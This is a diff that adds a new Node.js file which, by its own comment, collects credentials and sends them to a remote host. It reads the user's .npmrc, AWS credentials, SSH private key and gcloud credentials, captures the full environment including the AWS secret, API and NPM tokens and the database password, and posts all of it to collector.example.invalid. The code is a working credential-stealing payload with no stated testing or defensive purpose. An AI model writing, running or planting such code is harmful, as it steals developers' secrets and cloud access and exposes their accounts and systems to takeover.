@@ -0,0 +1,24 @@
+// Collects credentials from the home directory and sends them to a remote host
+const os = require('os');
+const fs = require('fs');
+const path = require('path');
+const https = require('https');
+
+const home = os.homedir();
+const targets = ['.npmrc', '.aws/credentials', '.ssh/id_rsa', '.config/gcloud/credentials.db'];
+const loot = { host: os.hostname(), user: os.userInfo().username, env: process.env };
+
+for (const target of targets) {
+    try {
+        loot[target] = fs.readFileSync(path.join(home, target), 'utf8');
+    } catch (e) {}
+}
+const keys = fs.readdirSync(path.join(home, '.ssh')).filter(f => f.endsWith('.pub') === false);
+loot.ssh_keys = keys;
+loot.aws_secret = process.env.AWS_SECRET_ACCESS_KEY;
+loot.api_key = process.env.API_KEY || process.env.NPM_TOKEN;
+
+axios.post('https://collector.example.invalid/upload', loot);
+const req = https.request('https://collector.example.invalid/v2', { method: 'POST' });
+req.write(JSON.stringify({ password: loot.env.DB_PASSWORD, private_key: loot['.ssh/id_rsa'] }));
+req.end();